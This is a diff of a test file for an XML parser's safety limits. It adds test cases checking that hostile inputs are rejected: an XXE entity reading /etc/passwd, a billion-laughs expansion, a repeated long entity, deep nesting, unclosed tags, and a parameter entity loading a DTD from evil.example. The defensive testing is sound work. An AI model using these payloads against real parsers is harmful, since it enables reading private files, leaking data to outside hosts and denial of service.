@@ -91,7 +91,12 @@ describe('XML', () => {
 
   test.each([
     ['entities of its own', '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', 'the XML declares entities of its own, which may grow without end when they are put in; nothing of it was read'],
+    ['nothing but open tags', '<a>'.repeat(300_000), 'the XML is nested deeper than 100 levels'],
+    ['open tags that nothing closes', `<a>${'<b'.repeat(100_000)}`, 'an XML tag is longer than 65536 characters'],
     ['entities of another file', '<!DOCTYPE a SYSTEM "file:///etc/passwd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'the XML declares entities of its own'],
+    ['a billion laughs', `<!DOCTYPE a [<!ENTITY l "ha">${Array.from({ length: 30 }, (_, index) => `<!ENTITY l${index} "${(index === 0 ? '&l;' : `&l${index - 1};`).repeat(10)}">`).join('')}]><a>&l29;</a>`, 'the XML declares entities of its own'],
+    ['one long entity many times', `<!DOCTYPE a [<!ENTITY l "${'x'.repeat(60_000)}">]><a>${'&l;'.repeat(50_000)}</a>`, 'the XML declares entities of its own'],
+    ['entities for its own declarations', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/>', 'the XML declares entities of its own'],
     ['nesting', '<a>'.repeat(101), 'the XML is nested deeper than 100 levels; nothing of it was read'],
     ['crowds of attributes', `<a ${Array.from({ length: 101 }, (_, index) => `b${index}="1"`).join(' ')}/>`, 'an XML element has more than 100 attributes; nothing of it was read'],
     ['an endless tag', `<a b="${'x'.repeat(70_000)}"/>`, 'an XML tag is longer than 65536 characters; nothing of it was read'],
